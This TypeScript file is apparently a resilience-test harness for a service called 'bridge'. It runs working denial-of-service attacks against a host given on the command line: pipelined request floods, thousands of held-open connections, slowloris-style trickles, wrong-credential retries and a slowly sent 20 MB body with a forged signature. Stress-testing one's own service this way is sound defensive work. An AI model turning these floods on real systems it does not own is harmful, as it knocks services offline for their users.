/**
 * Attacks of strangers without a secret: `node attack.ts <name> <host> <port>`. A process of its own, so that it does
 * not slow down the measurement. It sends a message once it has opened all its connections, and runs until it is
 * killed, or for a minute.
 */
import { connect, type Socket } from 'node:net'

const MB = 1024 * 1024

const MAX_MS = 60_000

const REDIAL_MS = 1000

/** At most this many connections are opened per `DIALS_MS`: 5,000 a second. */
const DIALS = 50
const DIALS_MS = 10

const [name = '', host = '', port = ''] = process.argv.slice(2)

const ATTACKS: Record<string, () => void> = {
  pipelines () {
    const paths = ['/docs/json', '/health', '/nothing', '/api/callers']
    for (let n = 0; n < 600; n++) keepOpen(get('/docs/static/swagger-ui-bundle.js'), { isRead: false })
    // Seldom: to close such a connection costs Node the parsing of all requests that came with the first.
    for (let n = 0; n < 128; n++) {
      keepOpen(get(paths[n % 4]!).repeat(1500), { isRead: false, redialMs: 10 * REDIAL_MS })
    }
    // These do read.
    for (let n = 0; n < 32; n++) keepAsking(get('/docs/json'), 0)
  },

  crowds () {
    for (let n = 0; n < 2200; n++) keepAsking(get('/health'), 20_000)
    for (let n = 0; n < 3000; n++) keepOpen('', { isRead: true })
    for (let n = 0; n < 200; n++) trickle(get('/health'), { characters: 1, everyMs: 2000 })
    for (let n = 0; n < 4; n++) keepAsking(get('/api/callers', { authorization: 'Bearer a-wrong-admin-key' }), 20)
    const wrong = { 'x-webhook-secret': 'a-wrong-secret', 'content-length': '2' }
    for (let n = 0; n < 4; n++) keepAsking(post('/webhook/personalize', wrong, '{}'), 20)
  },

  bodies () {
    const start = post('/webhook/post-call', {
      'elevenlabs-signature': `t=${Math.floor(Date.now() / 1000)},v0=${'0'.repeat(64)}`,
      'content-length': String(20 * MB)
    }, `{"type":"x","filling":"${'a'.repeat(256 * 1024)}`)
    const body = start + 'a'.repeat(20 * MB)
    for (let n = 0; n < 12; n++) trickle(body, { characters: 2048, everyMs: 100, from: start.length })
  }
}

const dials: Array<() => void> = []

function keepOpen (text: string, { isRead, redialMs }: { isRead: boolean, redialMs?: number }): void {
  dial((socket) => {
    if (isRead) socket.resume()
    socket.write(text)
  }, redialMs)
}

function keepAsking (text: string, pauseMs: number): void {
  dial((socket) => {
    socket.write(text)
    socket.on('data', (data: Buffer) => {
      if (data.toString('latin1', 0, 5) === 'HTTP/') setTimeout(() => socket.writable && socket.write(text), pauseMs)
    })
  })
}

interface Pace {
  characters: number
  everyMs: number
  /** Everything before this index is sent at once. */
  from?: number
}

function trickle (text: string, { characters, everyMs, from = 0 }: Pace): void {
  dial((socket) => {
    let sent = from
    socket.resume()
    socket.write(text.slice(0, from))
    const timer = setInterval(() => {
      socket.write(text.slice(sent, sent + characters))
      sent += characters
    }, everyMs)
    socket.on('close', () => clearInterval(timer))
  })
}

function dial (use: (socket: Socket) => void, redialMs = REDIAL_MS): void {
  dials.push(() => {
    const socket = connect(Number(port), host)
    socket.on('error', () => { /* closed, as it should be */ })
    socket.on('close', () => setTimeout(dial, redialMs, use, redialMs))
    use(socket)
  })
}

function get (path: string, headers: Record<string, string> = {}): string {
  return `GET ${path} HTTP/1.1\r\n${lines({ host: 'bridge', ...headers })}\r\n`
}

function post (path: string, headers: Record<string, string>, body: string): string {
  return `POST ${path} HTTP/1.1\r\n${lines({ host: 'bridge', ...headers })}\r\n${body}`
}

function lines (headers: Record<string, string>): string {
  return Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`).join('')
}

setTimeout(() => process.exit(), MAX_MS)
ATTACKS[name]!()
dials.push(() => process.send!('open'))
setInterval(() => dials.splice(0, DIALS).forEach((open) => open()), DIALS_MS)
